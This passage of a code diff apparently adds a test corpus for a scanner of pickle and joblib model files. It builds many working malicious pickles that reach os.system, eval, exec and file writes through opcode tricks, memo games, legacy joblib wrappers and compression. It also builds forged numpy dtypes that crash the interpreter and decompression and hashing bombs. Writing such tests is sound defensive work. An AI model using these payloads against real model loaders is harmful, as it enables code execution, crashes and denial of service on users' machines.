+    return s(py_src(marker), 4) + TUPLE1 + REDUCE
+
+
+@attack("opcode")
+def memo_stack_global_binput_binget(marker: Path) -> bytes:
+    """Module/name stored with BINPUT, popped, decoys pushed, fetched back with BINGET."""
+    body = (
+        short_binunicode("builtins")
+        + binput(1)
+        + POP
+        + short_binunicode("eval")
+        + binput(2)
+        + POP
+        + short_binunicode("numpy")
+        + short_binunicode("ndarray")
+        + POP
+        + POP
+        + binget(1)
+        + binget(2)
+        + STACK_GLOBAL
+        + _eval_tail(marker)
+    )
+    return wrap(body, 4)
+
+
+@attack("opcode")
+def memo_stack_global_memoize_long_binget(marker: Path) -> bytes:
+    """MEMOIZE (implicit indices) then LONG_BINGET."""
+    body = (
+        short_binunicode("sklearn")
+        + MEMOIZE
+        + POP  # memo 0: decoy
+        + short_binunicode("builtins")
+        + MEMOIZE
+        + POP  # memo 1
+        + short_binunicode("exec")
+        + MEMOIZE
+        + POP  # memo 2
+        + long_binget(1)
+        + long_binget(2)
+        + STACK_GLOBAL
+        + _eval_tail(marker)
+    )
+    return wrap(body, 4)
+
+
+@attack("opcode")
+def memo_stack_global_put_get_text(marker: Path) -> bytes:
+    """Text PUT/GET (protocol 0 memo opcodes) feeding a protocol-4 STACK_GLOBAL."""
+    body = (
+        unicode0("builtins")
+        + put(7)
+        + POP
+        + unicode0("eval")
+        + put(8)
+        + POP
+        + get(7)
+        + get(8)
+        + STACK_GLOBAL
+        + _eval_tail(marker)
+    )
+    return wrap(body, 4)
+
+
+@attack("opcode")
+def memo_overwrite_put(marker: Path) -> bytes:
+    """A memo slot first holds a trusted module name, then is overwritten with 'builtins'."""
+    body = (
+        short_binunicode("sklearn.pipeline")
+        + binput(3)
+        + POP
+        + short_binunicode("Pipeline")
+        + binput(4)
+        + POP
+        + short_binunicode("builtins")
+        + binput(3)
+        + POP
+        + short_binunicode("eval")
+        + binput(4)
+        + POP
+        + binget(3)
+        + binget(4)
+        + STACK_GLOBAL
+        + _eval_tail(marker)
+    )
+    return wrap(body, 4)
+
+
+@attack("opcode")
+def memo_put_inside_pop_mark(marker: Path) -> bytes:
+    """Strings memoised inside a MARK region that POP_MARK discards, then fetched."""
+    body = (
+        MARK
+        + short_binunicode("builtins")
+        + binput(5)
+        + short_binunicode("exec")
+        + binput(6)
+        + POP_MARK
+        + binget(5)
+        + binget(6)
+        + STACK_GLOBAL
+        + _eval_tail(marker)
+    )
+    return wrap(body, 4)
+
+
+@attack("opcode")
+def stack_global_raw_unicode_escape(marker: Path) -> bytes:
+    """STACK_GLOBAL from UNICODE strings spelled with \\u escapes ('o\\u0073', 'sy\\u0073tem')."""
+    body = (
+        b"Vo\\u0073\n"
+        + b"Vsy\\u0073tem\n"
+        + STACK_GLOBAL
+        + s(shell_cmd(marker), 4)
+        + TUPLE1
+        + REDUCE
+    )
+    return wrap(body, 4)
+
+
+@attack("opcode")
+def stack_global_escaped_string(marker: Path) -> bytes:
+    """STACK_GLOBAL from protocol-0 STRING literals with \\x escapes, decoded to str."""
+    body = (
+        string0("o\\x73")
+        + string0("\\x73ystem")
+        + STACK_GLOBAL
+        + s(shell_cmd(marker), 4)
+        + TUPLE1
+        + REDUCE
+    )
+    return wrap(body, 4)
+
+
+@attack("opcode")
+def stack_global_short_binstring(marker: Path) -> bytes:
+    """STACK_GLOBAL from py2 SHORT_BINSTRINGs (decoded to str by the unpickler)."""
+    body = short_binstring("builtins") + short_binstring("eval") + STACK_GLOBAL + _eval_tail(marker)
+    return wrap(body, 4)
+
+
+@attack("opcode")
+def stack_global_binunicode8(marker: Path) -> bytes:
+    """STACK_GLOBAL from BINUNICODE8 strings."""
+    body = binunicode8("builtins") + binunicode8("exec") + STACK_GLOBAL + _eval_tail(marker)
+    return wrap(body, 4)
+
+
+@attack("opcode")
+def stack_global_dotted_through_allowed_module(marker: Path) -> bytes:
+    """('numpy', 'testing._private.utils.os.system'): resolved attribute by attribute."""
+    module, name = reexported("numpy", "testing._private.utils.os.system")
+    return wrap(call(g(module, name, 4), s(shell_cmd(marker), 4)), 4)
+
+
+@attack("opcode")
+def global_opcode_dotted_name_p4(marker: Path) -> bytes:
+    """GLOBAL 'os' 'path.os.system' under a PROTO 4 header (dotted names resolve at 4+)."""
+    return wrap(call(global_op("os", "path.os.system"), s(shell_cmd(marker), 4)), 4)
+
+
+@attack("opcode")
+def inst_opcode_p0(marker: Path) -> bytes:
+    """INST os system: the class-instantiating opcode calls any callable."""
+    return wrap(MARK + unicode0(shell_cmd(marker)) + inst("os", "system"), 0)
+
+
+@attack("opcode")
+def obj_opcode_p1(marker: Path) -> bytes:
+    """OBJ: MARK callable args OBJ calls callable(*args)."""
+    return wrap(MARK + global_op("builtins", "eval") + binunicode(py_src(marker)) + OBJ, 1)
+
+
+def _ext_registered(opcode: Callable[[int], bytes], code: int) -> Builder:
+    def build(marker: Path) -> bytes:
+        register_ext = call(
+            g("copyreg", "add_extension", 2), s("builtins", 2), s("exec", 2), binint(code)
+        )
+        return wrap(register_ext + POP + opcode(code) + tup(s(py_src(marker), 2)) + REDUCE, 2)
+
+    return build
+
+
+register(
+    "ext1_registered_in_stream",
+    _ext_registered(ext1, 0xF1),
+    "opcode",
+    "pickle",
+    "copyreg.add_extension('builtins', 'exec', 241) in the stream, then EXT1 241",
+)
+register(
+    "ext2_registered_in_stream",
+    _ext_registered(ext2, 0xF123),
+    "opcode",
+    "pickle",
+    "the same with EXT2 (code 0xF123)",
+)
+register(
+    "ext4_registered_in_stream",
+    _ext_registered(ext4, 0x1234567),
+    "opcode",
+    "pickle",
+    "the same with EXT4 (code 0x1234567)",
+)
+
+
+@attack("opcode", "never")
+def ext1_unregistered(marker: Path) -> bytes:
+    """EXT1 with a code nobody registered: refused whatever the registry holds."""
+    return wrap(ext1(0xEE) + tup(s(py_src(marker), 2)) + REDUCE, 2)
+
+
+@attack("opcode", "never")
+def ext4_only(marker: Path) -> bytes:
+    """A bare EXT4 as the whole model: the scanner cannot know what it names."""
+    del marker
+    return wrap(ext4(0x7FFFFFF0), 2)
+
+
+@attack("opcode")
+def newobj_functools_partial(marker: Path) -> bytes:
+    """NEWOBJ on functools.partial (its __new__ builds the partial), then call it."""
+    part = g("functools", "partial", 4) + tup(g("builtins", "exec", 4), s(py_src(marker), 4))
+    return wrap(part + NEWOBJ + EMPTY_TUPLE + REDUCE, 4)
+
+
+@attack("opcode")
+def newobj_ex_functools_partial(marker: Path) -> bytes:
+    """NEWOBJ_EX on functools.partial with keyword args, then call it."""
+    part = (
+        g("functools", "partial", 4)
+        + tup(g("builtins", "open", 4), s(str(marker), 4))
+        + dct((s("mode", 4), s("w", 4)))
+    )
+    return wrap(part + NEWOBJ_EX + EMPTY_TUPLE + REDUCE, 4)
+
+
+@attack("opcode")
+def build_setstate_injection(marker: Path) -> bytes:
+    """BUILD puts os.system in a StandardScaler's __dict__ as __setstate__; a 2nd BUILD calls it."""
+    scaler = call(g("sklearn.preprocessing._data", "StandardScaler", 4))
+    first = dct((s("__setstate__", 4), g("os", "system", 4))) + BUILD
+    second = s(shell_cmd(marker), 4) + BUILD
+    return wrap(scaler + first + second, 4)
+
+
+@attack("opcode", "never")
+def persid_opcode(marker: Path) -> bytes:
+    """PERSID: defers to the loader's persistent_load; no model needs it."""
+    return wrap(b"P" + str(marker).encode() + b"\n", 0)
+
+
+@attack("opcode", "never")
+def binpersid_opcode(marker: Path) -> bytes:
+    """BINPERSID on a tuple naming a file."""
+    return wrap(tup(s("file", 4), s(str(marker), 4)) + BINPERSID, 4)
+
+
+@attack("opcode")
+def proto2_header_proto4_opcodes(marker: Path) -> bytes:
+    """A PROTO 2 header followed by protocol-4 opcodes (SHORT_BINUNICODE, STACK_GLOBAL, MEMOIZE)."""
+    body = g("builtins", "exec", 4) + _eval_tail(marker)
+    return wrap(body, 2)
+
+
+@attack("opcode")
+def no_proto_header_stack_global(marker: Path) -> bytes:
+    """No PROTO header at all (protocol 0 assumed) but STACK_GLOBAL and friends."""
+    return wrap(g("builtins", "exec", 4) + _eval_tail(marker), 0)
+
+
+@attack("opcode")
+def proto5_framed_payload(marker: Path) -> bytes:
+    """The payload inside a FRAME, as the protocol-5 pickler writes it."""
+    return proto(5) + frame(g("builtins", "exec", 5) + _eval_tail(marker) + STOP)
+
+
+@attack("opcode")
+def global_py2_builtin_eval(marker: Path) -> bytes:
+    """GLOBAL '__builtin__' 'eval': fix_imports maps it to builtins.eval below protocol 3."""
+    return wrap(call(global_op("__builtin__", "eval"), s(py_src(marker), 2)), 2)
+
+
+@attack("opcode")
+def global_py2_commands_getoutput(marker: Path) -> bytes:
+    """GLOBAL 'commands' 'getoutput': fix_imports maps the py2 module to subprocess."""
+    return wrap(call(global_op("commands", "getoutput"), unicode0(shell_cmd(marker))), 0)
+
+
+@attack("opcode")
+def global_py2_cpickle_loads(marker: Path) -> bytes:
+    """GLOBAL 'cPickle' 'loads' (mapped to pickle.loads) on a nested malicious pickle."""
+    text = inner_pickle(marker).decode("latin-1")
+    data = call(global_op("_codecs", "encode"), s(text, 2), s("latin1", 2))
+    return wrap(call(global_op("cPickle", "loads"), data), 2)
+
+
+@attack("opcode", "never")
+def unicode_confusable_global(marker: Path) -> bytes:
+    """Fullwidth 'os'.'system' (U+FF4F U+FF53 ...): a look-alike name must not be accepted."""
+    return wrap(
+        call(g("\uff4f\uff53", "\uff53\uff59\uff53\uff54\uff45\uff4d", 4), s(shell_cmd(marker), 4)),
+        4,
+    )
+
+
+@attack("opcode", "multi-load")
+def bytes_after_stop(marker: Path) -> bytes:
+    """A clean pickle, then a second (malicious) pickle after its STOP."""
+    return pickle.dumps({"coef": [1.0, 2.0]}, protocol=4) + inner_pickle(marker, 4)
+
+
+@attack("opcode")
+def payload_then_invalid_opcode(marker: Path) -> bytes:
+    """The call runs, then an invalid opcode: the reader fails only after the damage."""
+    return proto(4) + open_call(marker, 4) + b"\xff" + STOP
+
+
+@attack("opcode")
+def payload_then_truncated(marker: Path) -> bytes:
+    """The call runs, then the stream ends without STOP."""
+    return proto(4) + open_call(marker, 4) + POP + NONE
+
+
+# === 6. joblib containers =====================================================================
+
+
+def _dtype_op(code: str, state: tuple[Any, ...]) -> bytes:
+    return call(g("numpy", "dtype", 4), s(code, 4), NEWFALSE, NEWTRUE) + lit(state) + BUILD
+
+
+def array_wrapper(shape: tuple[int, ...], dtype: bytes, *, aligned: bool) -> bytes:
+    """A hand-built ``NumpyArrayWrapper`` + BUILD, exactly like joblib 1.x writes it."""
+    pairs = [
+        (s("subclass", 4), g("numpy", "ndarray", 4)),
+        (s("shape", 4), lit(shape)),
+        (s("order", 4), s("C", 4)),
+        (s("dtype", 4), dtype),
+        (s("allow_mmap", 4), NEWFALSE),
+    ]
+    if aligned:
+        pairs.append((s("numpy_array_alignment_bytes", 4), binint(16)))
+    wrapper = g("joblib.numpy_pickle", "NumpyArrayWrapper", 4) + EMPTY_TUPLE + NEWOBJ
+    return wrapper + dct(*pairs) + BUILD
+
+
+F8 = ("f8", (3, "<", None, None, None, -1, -1, 0))
+O8 = ("O8", (3, "|", None, None, None, -1, -1, 63))
+
+
+@attack("joblib", "joblib")
+def joblib_payload_after_array(marker: Path) -> bytes:
+    """A real joblib file with a call spliced in right after a numpy array's raw bytes."""
+    coef = np.array([0.125, 0.25, 0.5, 0.75])
+    data = joblib_bytes({"coef": coef, "intercept": 1.5})
+    end = data.index(coef.tobytes()) + coef.nbytes
+    return data[:end] + open_call(marker, 4) + POP + data[end:]
+
+
+@attack("joblib", "joblib")
+def joblib_object_array_nested(marker: Path) -> bytes:
+    """A real joblib object-dtype array: its nested pickle holds a malicious object."""
+    arr = np.empty(2, dtype=object)
+    arr[0] = "feature"
+    arr[1] = _Reduce(open, (str(marker), "w"))
+    return joblib_bytes({"classes": arr})
+
+
+@attack("joblib", "joblib")
+def joblib_crafted_object_dtype(marker: Path) -> bytes:
+    """A hand-built wrapper declaring dtype O: what follows is a call, not an array pickle."""
+    header = array_wrapper((1,), _dtype_op(*O8), aligned=False)
+    return wrap(header + inner_pickle(marker, 2), 4)
+
+
+@attack("joblib", "joblib")
+def joblib_structured_dtype_object_field(marker: Path) -> bytes:
+    """A structured dtype with an object field (kind 'V', hasobject): joblib unpickles it."""
+    arr = np.empty(1, dtype=[("a", "O"), ("b", "<f8")])
+    arr[0] = (_Reduce(open, (str(marker), "w")), 1.0)
+    return joblib_bytes(arr)
+
+
+@attack("joblib", "sidecar")
+def joblib_legacy_ndarraywrapper(marker: Path) -> bytes:
+    """Legacy NDArrayWrapper: joblib calls np.load(filename, allow_pickle=True) on a sidecar."""
+    state = dct(
+        (s("filename", 4), s(str(marker.with_name("evil.npy")), 4)),
+        (s("subclass", 4), g("numpy", "ndarray", 4)),
+        (s("allow_mmap", 4), NEWFALSE),
+    )
+    cls = g("joblib.numpy_pickle_compat", "NDArrayWrapper", 4)
+    return wrap(cls + EMPTY_TUPLE + NEWOBJ + state + BUILD, 4)
+
+
+@attack("joblib", "sidecar")
+def joblib_legacy_ndarraywrapper_old_module(marker: Path) -> bytes:
+    """The same wrapper under its pre-0.10 home, joblib.numpy_pickle.NDArrayWrapper."""
+    state = dct(
+        (s("filename", 2), s(str(marker.with_name("evil.npy")), 2)),
+        (s("subclass", 2), g("numpy", "ndarray", 2)),
+        (s("allow_mmap", 2), NEWFALSE),
+    )
+    cls = global_op("joblib.numpy_pickle", "NDArrayWrapper")
+    return wrap(cls + EMPTY_TUPLE + NEWOBJ + state + BUILD, 2)
+
+
+@attack("joblib", "sidecar")
+def joblib_legacy_zndarraywrapper(marker: Path) -> bytes:
+    """Legacy ZNDArrayWrapper (zlib sidecar + _reconstruct(*init_args))."""
+    state = dct(
+        (s("filename", 2), s(str(marker.with_name("evil.z")), 2)),
+        (s("init_args", 2), tup(g("numpy", "ndarray", 2), tup(binint(0)), s("b", 2))),
+        (s("state", 2), NONE),
+    )
+    cls = global_op("joblib.numpy_pickle_compat", "ZNDArrayWrapper")
+    return wrap(cls + EMPTY_TUPLE + NEWOBJ + state + BUILD, 2)
+
+
+@attack("joblib", "joblib")
+def joblib_legacy_zfile_container(marker: Path) -> bytes:
+    """joblib < 0.9.3 'ZF' container (hex length + zlib): joblib still reads it by path."""
+    from joblib.numpy_pickle_compat import write_zfile
+
+    buffer = io.BytesIO()
+    write_zfile(buffer, inner_pickle(marker, 2))
+    return buffer.getvalue()
+
+
+@attack("joblib", "never", bomb=True)
+def joblib_huge_declared_shape(marker: Path) -> bytes:
+    """A wrapper declaring shape (2**40,) float64 (8 TiB) followed by 8 bytes."""
+    del marker
+    header = array_wrapper((2**40,), _dtype_op(*F8), aligned=True)
+    return proto(4) + header + b"\x00" + bytes(8) + STOP
+
+
+@attack("joblib", "never", bomb=True)
+def joblib_negative_declared_shape(marker: Path) -> bytes:
+    """A wrapper declaring shape (-1, 2**62): negative and overflowing sizes."""
+    del marker
+    header = array_wrapper((-1, 2**62), _dtype_op(*F8), aligned=True)
+    return proto(4) + header + b"\x00" + bytes(8) + STOP
+
+
+@attack("joblib", "never", bomb=True)
+def joblib_overflowing_declared_shape(marker: Path) -> bytes:
+    """A wrapper declaring shape (2**64,): past int64, where size arithmetic overflows."""
+    del marker
+    header = array_wrapper((2**64,), _dtype_op(*F8), aligned=True)
+    return proto(4) + header + b"\x00" + bytes(8) + STOP
+
+
+# === 6b. memory safety: numpy trusts a dtype's pickled flags =================================
+
+
+def forged_object_dtype() -> bytes:
+    """A structured dtype with one object field whose flags say "holds no objects" (0)."""
+    field = call(g("numpy", "dtype", 4), s("O8", 4), NEWFALSE, NEWTRUE) + lit(O8[1]) + BUILD
+    state = tup(
+        binint(3),
+        s("|", 4),
+        NONE,
+        tup(s("a", 4)),
+        dct((s("a", 4), tup(field, binint(0)))),
+        binint(8),
+        binint(1),
+        binint(0),
+    )
+    return call(g("numpy", "dtype", 4), s("V8", 4), NEWFALSE, NEWTRUE) + state + BUILD
+
+
+@attack("memory", "never", isolate=True)
+def numpy_forged_dtype_frombuffer(marker: Path) -> bytes:
+    """_frombuffer(8 bytes, forged dtype): raw bytes become a PyObject* (0x4141...): SIGSEGV."""
+    del marker
+    args = (binbytes(b"\x41" * 8), forged_object_dtype(), tup(binint(1)), s("C", 4))
+    return wrap(call(g("numpy._core.numeric", "_frombuffer", 4), *args), 4)
+
+
+@attack("memory", "never", isolate=True)
+def joblib_forged_dtype_array(marker: Path) -> bytes:
+    """A joblib array whose forged dtype hides an object field: its raw bytes are pointers."""
+    del marker
+    header = array_wrapper((1,), forged_object_dtype(), aligned=True)
+    return proto(4) + header + b"\x00" + b"\x41" * 8 + STOP
+
+
+# === 7. compression: joblib's decompressors run before any scan of the stream ================
+
+
+def _compressed(method: str) -> Builder:
+    def build(marker: Path) -> bytes:
+        return joblib_bytes(_Reduce(open, (str(marker), "w")), compress=(method, 3))
+
+    return build
+
+
+for _method in ("zlib", "gzip", "bz2", "lzma", "xz", "lz4"):
+    register(
+        f"compressed_{_method}",
+        _compressed(_method),
+        "compression",
+        "joblib",
+        f"joblib.dump(malicious, compress=('{_method}', 3))",
+    )
+
+
+def _split(method: str) -> Builder:
+    def build(marker: Path) -> bytes:
+        payload = inner_pickle(marker, 4)
+        head, tail = payload[: len(payload) // 2], payload[len(payload) // 2 :]
+        if method == "gzip":
+            return gzip.compress(head) + gzip.compress(tail)
+        if method == "bz2":
+            return bz2.compress(head) + bz2.compress(tail)
+        if method == "xz":
+            return lzma.compress(head) + lzma.compress(tail)
+        import lz4.frame
+
+        data: bytes = lz4.frame.compress(head) + lz4.frame.compress(tail)
+        return data
+
+    return build
+
+
+for _method in ("gzip", "bz2", "xz", "lz4"):
+    # joblib's gzip reader stops after the first member; gzip.open (and bz2/xz/lz4 in joblib)
+    # read every member, so the second half of the stream is only seen by a full reader.
+    register(
+        f"multistream_{_method}",
+        _split(_method),
+        "compression",
+        "never" if _method == "gzip" else "joblib",
+        f"the pickle split over two concatenated {_method} members (streams/frames)",
+    )
+
+
+# === 8. file-write primitives =================================================================
+
+
+@attack("file-write")
+def builtins_open_write_getattr_p2(marker: Path) -> bytes:
+    """getattr(open(marker, 'w'), 'write')('pwned')."""
+    write = call(g("builtins", "getattr", 2), open_call(marker, 2), s("write", 2))
+    return wrap(call(write, s("pwned", 2)), 2)
+
+
+@attack("file-write")
+def io_open_p3(marker: Path) -> bytes:
+    """io.open(marker, 'w')."""
+    return wrap(call(g("io", "open", 3), s(str(marker), 3), s("w", 3)), 3)
+
+
+@attack("file-write")
+def pathlib_write_text_dotted_p4(marker: Path) -> bytes:
+    """('pathlib', 'Path.write_text')(PosixPath(marker), 'pwned')."""
+    path = call(g("pathlib", "PosixPath", 4), s(str(marker), 4))
+    return wrap(call(g("pathlib", "Path.write_text", 4), path, s("pwned", 4)), 4)
+
+
+@attack("file-write")
+def pathlib_touch_getattr_p2(marker: Path) -> bytes:
+    """getattr(pathlib.Path(marker), 'touch')()."""
+    path = call(g("pathlib", "Path", 2), s(str(marker), 2))
+    return wrap(call(g("builtins", "getattr", 2), path, s("touch", 2)) + EMPTY_TUPLE + REDUCE, 2)
+
+
+@attack("file-write")
+def shutil_copyfile_p3(marker: Path) -> bytes:
+    """shutil.copyfile('/dev/null', marker)."""
+    return wrap(call(g("shutil", "copyfile", 3), s("/dev/null", 3), s(str(marker), 3)), 3)
+
+
+@attack("file-write")
+def logging_filehandler_p2(marker: Path) -> bytes:
+    """logging.FileHandler(marker): a class whose constructor creates the file."""
+    return wrap(call(g("logging", "FileHandler", 2), s(str(marker), 2)), 2)
+
+
+@attack("file-write")
+def numpy_savetxt(marker: Path) -> bytes:
+    """numpy.savetxt(marker, numpy.arange(3))."""
+    arr = call(g("numpy", "arange", 4), binint(3))
+    return wrap(call(g("numpy", "savetxt", 4), s(str(marker), 4), arr), 4)
+
+
+@attack("file-write")
+def numpy_ndarray_tofile_dotted(marker: Path) -> bytes:
+    """('numpy', 'ndarray.tofile')(numpy.arange(3), marker)."""
+    arr = call(g("numpy", "arange", 4), binint(3))
+    return wrap(call(g("numpy", "ndarray.tofile", 4), arr, s(str(marker), 4)), 4)
+
+
+@attack("file-write")
+def os_makedirs_p2(marker: Path) -> bytes:
+    """os.makedirs(marker): creates a directory where the marker goes."""
+    return wrap(call(g("os", "makedirs", 2), s(str(marker), 2)), 2)
+
+
+@attack("file-write")
+def zipfile_write_mode(marker: Path) -> bytes:
+    """zipfile.ZipFile(marker, 'w')."""
+    return wrap(call(g("zipfile", "ZipFile", 4), s(str(marker), 4), s("w", 4)), 4)
+
+
+# === 9. resource bombs ========================================================================
+
+_BOMB_BYTES = 1 << 30  # 1 GiB of output (the scanner must stop long before)
+
+
+@functools.cache
+def zlib_bomb() -> bytes:
+    """1 GiB of zeros as one valid zlib stream (~1 MB), built without compressing 1 GiB."""
+    chunk = bytes(64 << 20)
+    comp = zlib.compressobj(9)
+    first = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)
+    block = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)
+    tail = comp.flush()
+    # After a full flush the deflate state is reset, so the same input gives the same block.
+    count = _BOMB_BYTES // len(chunk)
+    adler = ((_BOMB_BYTES % 65521) << 16) | 1  # Adler-32 of n zero bytes
+    return first + block * (count - 1) + tail[:-4] + struct.pack(">I", adler)
+
+
+@functools.cache
+def lz4_bomb() -> bytes:
+    """1 GiB of zeros as one lz4 frame (~4.4 MB)."""
+    import lz4.frame
+
+    chunk = bytes(64 << 20)
+    comp = lz4.frame.LZ4FrameCompressor(block_linked=False)
+    parts = [comp.begin()]
+    parts += [comp.compress(chunk) for _ in range(_BOMB_BYTES // len(chunk))]
+    parts.append(comp.flush())
+    return b"".join(parts)
+
+
+@attack("bomb", "never", bomb=True)
+def bomb_zlib_1gib(marker: Path) -> bytes:
+    """1 GiB of zeros in a 1 MB zlib stream: must be refused fast, in bounded memory."""
+    del marker
+    return zlib_bomb()
+
+
+@attack("bomb", "never", bomb=True)
+def bomb_lz4_1gib(marker: Path) -> bytes:
+    """1 GiB of zeros in a 4.4 MB lz4 frame."""
+    del marker
+    return lz4_bomb()
+
+
+@attack(
+    "bomb",
+    "never",
+    bomb=True,
+    second_wall_skip="CPU bomb inside dict hashing: the unpickler cannot bound it",
+)
+def bomb_memo_tuple_dag_hash(marker: Path) -> bytes:
+    """Billion laughs: t[i] = (t[i-1], t[i-1]) via memo, 64 levels, used as a dict key."""
+    del marker
+    body = EMPTY_DICT + EMPTY_TUPLE + long_binput(0) + POP
+    for i in range(1, 65):
+        body += long_binget(i - 1) + long_binget(i - 1) + TUPLE2 + long_binput(i) + POP
+    body += long_binget(64) + NONE + SETITEM
+    return wrap(body, 4)
+
+
+@attack(
+    "bomb",
+    "never",
+    bomb=True,
+    second_wall_skip="CPU bomb inside set hashing: the unpickler cannot bound it",
+)
+def bomb_memo_frozenset_dag_hash(marker: Path) -> bytes:
+    """The same 64-level tuple DAG, as the member of a FROZENSET."""
+    del marker
+    body = EMPTY_TUPLE + long_binput(0) + POP
+    for i in range(1, 65):
+        body += long_binget(i - 1) + long_binget(i - 1) + TUPLE2 + long_binput(i) + POP
+    return wrap(body + MARK + long_binget(64) + b"\x91", 4)
+
+
+@attack(
+    "bomb",
+    "never",
+    bomb=True,
+    second_wall_skip="C recursion in tuple hashing crashes the interpreter (SIGSEGV)",
+)
+def bomb_deep_tuple_dict_key(marker: Path) -> bytes:
+    """A 200,000-deep nested tuple used as a dict key: hash() recursion overflows the C stack."""
+    del marker
+    depth = 200_000
+    return wrap(EMPTY_DICT + MARK * depth + TUPLE * depth + NONE + SETITEM, 4)
+
+
+@attack(
+    "bomb",
+    "never",
+    bomb=True,
+    second_wall_skip="only default-policy names: the unpickler allows them by design",
+)
+def bomb_ndarray_ufunc_allowed_names(marker: Path) -> bytes:
+    """numpy.square(numpy.ndarray((2**31,))): 32 GiB touched, from default-policy names only."""
+    del marker
+    arr = call(g("numpy", "ndarray", 4), tup(binint(2**31)))
+    return wrap(call(g("numpy", "square", 4), arr), 4)
+
+
+@attack("bomb", "never", bomb=True)
+def bomb_huge_binunicode8(marker: Path) -> bytes:
+    """BINUNICODE8 declaring 2**40 bytes, followed by 4."""
+    del marker
+    return proto(4) + b"\x8d" + struct.pack("<Q", 2**40) + b"abc" + STOP
+
+
+@attack("bomb", "never", bomb=True)
+def bomb_huge_binbytes8(marker: Path) -> bytes:
+    """BINBYTES8 declaring 2**62 bytes."""
+    del marker
+    return proto(4) + b"\x8e" + struct.pack("<Q", 2**62) + b"abc" + STOP
+
+
+@attack("bomb", "never", bomb=True)
+def bomb_huge_long4(marker: Path) -> bytes:
+    """LONG4 declaring a 2 GiB integer."""
+    del marker
+    return proto(2) + b"\x8b" + struct.pack("<i", 2**31 - 1) + b"\x01" * 16 + STOP
+
+
+@attack("bomb", "never", bomb=True)
+def bomb_huge_binstring(marker: Path) -> bytes:
+    """BINSTRING declaring 2 GiB."""
+    del marker
+    return proto(2) + b"T" + struct.pack("<i", 2**31 - 1) + b"abc" + STOP
+
+
+@attack(
+    "bomb",
+    "never",
+    bomb=True,
+    second_wall_skip="an in-memory reader only reads what is there; the scanner bounds it",
+)
+def bomb_huge_frame(marker: Path) -> bytes:
+    """FRAME declaring 2**40 bytes (a file-backed reader preallocates it)."""
+    del marker
+    return proto(4) + b"\x95" + struct.pack("<Q", 2**40) + NONE + STOP
+
+
+# === BENIGN: hostile-looking data that must be accepted =======================================
+
+
+def _fitted_scaler(**extra: Any) -> Any:
+    from sklearn.preprocessing import StandardScaler
+
+    scaler = StandardScaler().fit(np.array([[0.0, 1.0], [2.0, 3.0], [4.0, 5.0]]))
+    for key, value in extra.items():
+        setattr(scaler, key, value)
+    return scaler
+
+
+@benign()
+def benign_pickle_as_bytes_attribute(marker: Path) -> bytes:
+    """A fitted model carrying a malicious pickle's bytes as an attribute (data, not code)."""
+    return joblib_bytes(_fitted_scaler(blob_=inner_pickle(marker, 4)))
+
+
+@benign()
+def benign_pickle_text_in_str(marker: Path) -> bytes:
+    """A str attribute whose text is a protocol-0 pickle ('cos\\nsystem\\n...')."""
+    text = pickle.dumps(_Reduce(eval, (py_src(marker),)), protocol=0).decode("latin-1")
+    return joblib_bytes(_fitted_scaler(note_=text + "cos\nsystem\n(S'id'\ntR."))
+
+
+@benign()
+def benign_uint8_array_spelling_pickle(marker: Path) -> bytes:
+    """A uint8 array whose raw bytes are a malicious pickle: skipped by size, never parsed."""
+    raw = np.frombuffer(inner_pickle(marker, 4), dtype=np.uint8).copy()
+    return joblib_bytes(_fitted_scaler(lookup_=raw))
+
+
+@benign()
+def benign_float_array_with_opcode_bytes(marker: Path) -> bytes:
+    """A float array whose bytes contain GLOBAL/REDUCE/STOP byte values."""
+    raw = inner_pickle(marker, 2)
+    raw += bytes(-len(raw) % 8)
+    return joblib_bytes(_fitted_scaler(weights_=np.frombuffer(raw, dtype=np.float64).copy()))
+
+
+@benign()
+def benign_dangerous_looking_names_as_data(marker: Path) -> bytes:
+    """Dict keys and values that spell dangerous globals ('os.system', '__reduce__')."""
+    del marker
+    names = {"os.system": "builtins.eval", "__reduce__": "posix.system", "__setstate__": "exec"}
+    return joblib_bytes(_fitted_scaler(names_=names))
+
+
+def _benign_compressed(method: str) -> Builder:
+    def build(marker: Path) -> bytes:
+        return joblib_bytes(_fitted_scaler(blob_=inner_pickle(marker, 4)), compress=(method, 3))
+
+    return build
+
+
+for _method in ("zlib", "lz4", "xz"):
+    BENIGN[f"benign_compressed_{_method}"] = _benign_compressed(_method)
+    BENIGN_EXTRA_TYPES[f"benign_compressed_{_method}"] = ()
+
+
+# === BOUNDED: costly but harmless streams, bounded by ScanLimits rather than refused =========
+
+
+@dataclass(frozen=True)
+class Bounded:
+    """A stream the default limits let through (it is harmless to the loader) but whose cost
+    the scanner must bound: refused under ``limits`` (ScanLimits overrides), in a few seconds."""
+
+    build: Builder
+    limits: dict[str, int]
+    summary: str
+
+
+def _deep_tuples(marker: Path) -> bytes:
+    del marker
+    return wrap(MARK * 200_000 + TUPLE * 200_000, 4)
+
+
+def _deep_lists(marker: Path) -> bytes:
+    del marker
+    return wrap(EMPTY_LIST * 200_000 + APPEND * 199_999, 4)
+
+
+def _many_opcodes(marker: Path) -> bytes:
+    del marker
+    return wrap((EMPTY_TUPLE + POP) * 5_000_000 + NONE, 4)
+
+
+def _list_dag(marker: Path) -> bytes:
+    del marker
+    body = EMPTY_LIST + long_binput(0) + POP
+    for i in range(1, 101):
+        body += EMPTY_LIST + MARK + long_binget(i - 1) + long_binget(i - 1) + APPENDS
+        body += long_binput(i) + POP
+    return wrap(body + long_binget(100), 4)
+
+
+BOUNDED: dict[str, Bounded] = {
+    "deep_nested_tuples": Bounded(
+        _deep_tuples,
+        {"max_stack_depth": 10_000},
+        "200,000 nested tuples (MARK x N, TUPLE x N): iterative unpickler, no recursion",
+    ),
+    "deep_nested_lists": Bounded(
+        _deep_lists,
+        {"max_stack_depth": 10_000},
+        "200,000 nested lists (EMPTY_LIST x N, APPEND x N-1)",
+    ),
+    "ten_million_opcodes": Bounded(
+        _many_opcodes,
+        {"max_opcodes": 1_000_000},
+        "10,000,001 cheap opcodes (EMPTY_TUPLE POP x 5M, NONE) in 10 MB",
+    ),
+    "memo_list_dag": Bounded(
+        _list_dag,
+        {"max_memo": 50},
+        "l[i] = [l[i-1], l[i-1]], 100 levels: 2**100 items on traversal, O(n) to unpickle",
+    ),
+}
+
+
+CATEGORIES: tuple[str, ...] = tuple(dict.fromkeys(info.category for info in INFO.values()))
